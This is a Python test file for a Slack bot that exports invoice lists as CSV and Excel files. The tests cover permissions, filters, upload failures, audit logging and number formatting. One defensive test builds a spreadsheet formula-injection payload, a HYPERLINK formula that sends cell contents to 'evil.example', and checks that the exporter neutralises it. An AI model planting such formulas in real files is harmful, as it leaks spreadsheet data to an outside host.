"""``/invoices export``: the list as files, in the asker's direct messages with the bot."""

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest

from bot.domain.extract import COLUMNS, Row, row
from bot.domain.invoice import Invoice, PaymentMade, Status
from bot.domain.money import Money
from bot.views.language import Language
from bot.views.sheets import as_csv, as_json
from bot.views.workbook import as_xlsx
from sandbox.slack import Message, Person, text_of
from tests.asking import ask, asker, owed, profile_of
from tests.paying import journal
from tests.town import Bot, Town
from tests.workbooks import Book, read_book

TODAY = date(2026, 11, 22)
MOMENT = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)


def sent(town: Town, person: Person) -> list[Message]:
    """The messages with files that this person got from the bot."""
    room = town.workspace.direct_channel([person.user.id])
    return [one for one in person.seen(room.id) if one.files]


def contents(town: Town, message: Message) -> tuple[list[dict[str, str]], Book]:
    """The rows of the CSV, and the workbook, on a message."""
    text, book = (town.workspace.files[file["id"]].content for file in message.files)
    assert text.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig")))), read_book(book)


async def exported(
    town: Town, person: Person, bot: Bot, text: str = ""
) -> tuple[list[dict[str, str]], Book]:
    """Ask for an export, and read the one message that comes."""
    before = len(sent(town, person))
    answer = await ask(person, bot, "/invoices", f"export {text}")
    assert "in your messages with the bot" in answer.text
    (message,) = sent(town, person)[before:]
    return contents(town, message)


def made(**facts: Any) -> Invoice:
    """An invoice with some facts of its own."""
    usual = Invoice("G000000001", "acc", "P-1", "Finance", Status.DUE, Money(Decimal(5), "EUR"))
    return replace(usual, **facts)


async def test_a_finance_lead_can_export_a_list_as_files(contoso: Town) -> None:
    """Both files hold every matching invoice, all pages of them, with numbers and ISO dates."""
    numbers = [contoso.invoice(days_overdue=days) for days in range(1, 13)]
    bot = await contoso.bot()
    ron = await asker(contoso, bot)
    rows, book = await exported(contoso, ron, bot, "overdue")
    assert [one["invoice"] for one in rows] == numbers[::-1]
    assert [one[0] for one in book.rows[1:]] == numbers[::-1]
    first, due = rows[0], contoso.today() - timedelta(days=12)
    assert tuple(first) == COLUMNS
    assert first["due_date"] == due.isoformat()
    assert (first["amount_due"], first["currency"]) == ("12340.00", "EUR")
    assert (first["days_overdue"], first["status"]) == ("12", "overdue")
    line = dict(zip(COLUMNS, book.rows[1], strict=False))
    assert (line["amount_due"], line["due_date"], line["days_overdue"]) == (12340.0, due, 12.0)
    assert (book.frozen, book.formulas) == (1, 0)
    (message,) = sent(contoso, ron)
    names = [file["name"] for file in message.files]
    stem = f"azure-invoices-overdue-{contoso.today().isoformat()}"
    assert names == [f"{stem}.csv", f"{stem}.xlsx"]
    assert "12 invoices" in message.text


async def test_a_finance_lead_can_export_part_of_the_list(contoso: Town) -> None:
    """Filter and text narrow an export as they narrow a list."""
    contoso.invoice()
    rome = profile_of(contoso, "Rome office")
    wanted = owed(contoso, rome)
    bot = await contoso.bot()
    ron = await asker(contoso, bot, "billing-account-reader")
    for text in ("rome", "overdue ROME"):
        rows, _ = await exported(contoso, ron, bot, text)
        assert [one["invoice"] for one in rows] == [wanted]


async def test_a_finance_lead_can_export_only_what_they_may_see(contoso: Town) -> None:
    """Other profiles' invoices are in no file, as they are in no list."""
    mine, theirs = contoso.invoice(), owed(contoso, profile_of(contoso, "Rome office"))
    bot = await contoso.bot()
    ron = await asker(contoso, bot, "billing-profile-reader")
    rows, book = await exported(contoso, ron, bot, "all")
    assert [one["invoice"] for one in rows] == [mine]
    assert theirs not in str(book.rows)


@pytest.mark.parametrize(
    ("role", "slack", "words"),
    [("", {}, "You hold no billing role"), ("x", {"is_restricted": True}, "Guests cannot")],
)
async def test_a_stranger_cannot_export_anything(
    contoso: Town, role: str, slack: dict[str, bool], words: str
) -> None:
    """Without a role, or as a guest, one is told so and gets no file."""
    contoso.invoice()
    bot = await contoso.bot()
    contoso.colleague("U0SAM", "sam", **slack)
    if role:
        contoso.holds("U0SAM", "billing-account-owner")
    sam = await contoso.person("U0SAM", bot)
    answer = await ask(sam, bot, "/invoices", "export")
    assert words in text_of(answer)
    assert contoso.workspace.files == {}


async def test_a_finance_lead_can_tell_that_nothing_matches(contoso: Town) -> None:
    """There is a sentence and no empty file."""
    contoso.invoice()
    bot = await contoso.bot()
    ada = await contoso.person("U0ADA", bot)
    answer = await ask(ada, bot, "/invoices", "EXPORT paid")
    assert "No invoice matches (paid)" in text_of(answer)
    assert contoso.workspace.files == {}


async def test_a_finance_lead_can_tell_that_an_account_is_missing(contoso: Town) -> None:
    """What could not be read is named with the files and in the answer."""
    contoso.invoice()
    other = contoso.tenant.add_account("Fabrikam")
    contoso.tenant.assign("billing-account-reader", contoso.tenant.bot_id, other)
    contoso.fault(f"GET */billingAccounts/{other}/invoices*", "status", status=500, times=-1)
    bot = await contoso.bot()
    ada = await contoso.person("U0ADA", bot)
    await exported(contoso, ada, bot)
    (message,) = sent(contoso, ada)
    missing = "These billing accounts could not be read: Fabrikam"
    assert missing in message.text
    assert missing in ada.replies[-1].text


async def test_a_finance_lead_can_read_why_slack_took_no_file(contoso: Town) -> None:
    """A scope that the app lacks, or an upload that fails, ends in a sentence, not in silence."""
    contoso.invoice()
    bot = await contoso.bot()
    ada = await contoso.person("U0ADA", bot)
    contoso.fault("POST /upload/*", "status", status=500)
    assert "Slack did not" in (await ask(ada, bot, "/invoices", "export")).text
    contoso.workspace.scopes.discard("files:write")
    assert "Slack" in (await ask(ada, bot, "/invoices", "export")).text
    assert sent(contoso, ada) == []


async def test_a_finance_lead_cannot_get_the_same_files_twice(contoso: Town) -> None:
    """A lost answer of Slack's is not tried again by the bot itself."""
    contoso.invoice()
    bot = await contoso.bot()
    ada = await contoso.person("U0ADA", bot)
    contoso.fault("POST /api/files.completeUploadExternal", "drop_after")
    assert "Slack" in (await ask(ada, bot, "/invoices", "export")).text
    assert len(sent(contoso, ada)) == 1
    assert contoso.traffic.count("files.completeUploadExternal") == 1


async def test_an_auditor_can_see_who_exported(contoso: Town) -> None:
    """An export is noted before the files leave."""
    contoso.invoice()
    bot = await contoso.bot()
    ada = await contoso.person("U0ADA", bot)
    await exported(contoso, ada, bot)
    (entry,) = await journal(contoso, "lookup.exported")
    assert entry["actor"] == "U0ADA"


@pytest.mark.parametrize(
    "sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]
)
def test_nobody_can_slip_a_formula_into_a_spreadsheet(sign: str) -> None:
    """A text that begins like a formula is marked as text in the CSV, and is text in the workbook."""
    evil = f'{sign}HYPERLINK("http://evil.example?"&A1,"x")'
    rows = [row(made(billing_profile_name=evil, purchase_order=evil), TODAY)]
    (line,) = csv.DictReader(io.StringIO(as_csv(rows), newline=""))
    assert line["billing_profile"] == line["purchase_order"] == f"'{evil}"
    book = read_book(as_xlsx(rows, Language(), MOMENT))
    assert book.formulas == 0
    assert str(book.rows[1][2]).endswith(evil[1:])


def test_a_reader_of_the_files_can_add_up_the_amounts() -> None:
    """Amounts are exact numbers, credit notes negative, each with its currency."""
    amounts = ("-12.50", "1234567890.12", "0.001", "7", "0")
    rows = [row(made(amount_due=Money(Decimal(one), "JPY")), TODAY) for one in amounts]
    lines = list(csv.DictReader(io.StringIO(as_csv(rows))))
    told = [one["amount_due"] for one in lines]
    assert told == ["-12.50", "1234567890.12", "0.001", "7.00", "0.00"]
    assert {one["currency"] for one in lines} == {"JPY"}
    book = read_book(as_xlsx(rows, Language(), MOMENT))
    assert [line[7] for line in book.rows[1:]] == [float(one) for one in amounts]
    assert [one["amount_due"] for one in json.loads(as_json(rows))] == told


def test_a_reader_of_the_files_can_see_how_an_invoice_was_paid() -> None:
    """The last payment's day and method; no days overdue, as nothing is owed any more."""
    payments = tuple(
        PaymentMade(datetime(2026, 11, day, 23, 0, tzinfo=UTC), None, method)
        for day, method in ((3, "wire"), (9, "creditCard"))
    )
    paid = row(
        made(status=Status.PAID, due_date=date(2026, 11, 1), payments=payments, purchase_order="é"),
        TODAY,
    )
    assert (paid.paid_on, paid.method, paid.days_overdue) == (date(2026, 11, 9), "creditCard", None)
    (told,) = json.loads(as_json([paid]))
    assert (told["paid_on"], told["days_overdue"], told["due_date"]) == (
        "2026-11-09",
        None,
        "2026-11-01",
    )
    partly = row(made(payments=payments), TODAY)
    assert (partly.paid_on, partly.method) == (None, "")


def test_a_reader_of_the_files_cannot_take_one_currency_for_another() -> None:
    """A total in another currency than the amount due is left out."""
    total = Money(Decimal(9), "USD")
    assert row(made(total=total), TODAY).total is None
    assert row(made(total=Money(Decimal(9), "EUR")), TODAY).total == Decimal("9.00")


def test_a_reader_of_the_files_can_trust_the_columns_order() -> None:
    """The columns are a promise to whoever reads the files with a program."""
    promised = (
        *("invoice", "status", "billing_profile", "billing_account", "invoice_date", "due_date"),
        *("days_overdue", "amount_due", "total", "currency", "purchase_order", "paid_on", "method"),
    )
    assert promised == COLUMNS
    assert as_csv([]).strip() == ",".join(COLUMNS)
    assert isinstance(row(made(), TODAY), Row)
